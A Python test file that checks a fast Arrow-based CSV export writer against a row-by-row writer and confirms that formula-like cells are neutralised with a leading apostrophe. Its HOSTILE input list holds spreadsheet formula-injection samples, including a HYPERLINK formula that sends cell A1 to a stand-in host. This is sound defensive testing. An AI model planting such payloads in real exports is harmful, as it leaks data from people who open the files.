"""The registry's fast CSV writer (Arrow's) writes what exports.CsvWriter, row by row, does: cell for cell.

Arrow quotes every text cell where Python's csv quotes only where needed; a CSV reader (and a spreadsheet) reads
the same cells from both.
"""

import csv
import io

import pyarrow as pa

from subsidy.exports import CsvWriter
from subsidy.registry.output import write_csv

HOSTILE = ["=HYPERLINK(\"http://x/?\"&A1,\"y\")", "+1", "-2", "@SUM(A1)", "\tTab", "\rCR", "plain", "有,逗号",
           "say \"hi\"", "two\nlines", "", None, "'already", " =spaced", "合成企业0000001", "－全角"]


def test_the_fast_csv_writer_writes_what_the_row_by_row_writer_writes(tmp_path):
    n = len(HOSTILE)
    table = pa.table({
        "line": pa.array(range(2, n + 2), pa.int64()),
        "company.name": pa.array(HOSTILE, pa.string()),
        "outcome": pa.DictionaryArray.from_arrays(pa.array([i % 2 for i in range(n)], pa.int8()),
                                                  pa.array(["ok", "=error"])),
        "total_fen": pa.array([(-1) ** i * 10 ** i if i % 5 else None for i in range(n)], pa.int64()),
        "=formula header": pa.array(list(reversed(HOSTILE)), pa.string()),
    })
    target = tmp_path / "out.csv"
    write_csv(table, target)
    written, expected = target.read_bytes(), _row_by_row(table)
    assert written.startswith("\ufeff".encode()) and written.count(b"\r\n") == expected.count(b"\r\n")

    def cells(data: bytes):
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))

    assert cells(written) == cells(expected)
    assert cells(written)[0][-1] == "'=formula header" and cells(written)[1][1].startswith("'=HYPERLINK")
    assert not [cell for row in cells(written) for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not cell.lstrip("-").isdigit()]


def _row_by_row(table: pa.Table) -> bytes:
    out = io.StringIO()
    writer = CsvWriter(out, table.column_names)
    for row in table.to_pylist():
        writer.write({k: "" if v is None else v for k, v in row.items()})
    return out.getvalue().encode("utf-8-sig")
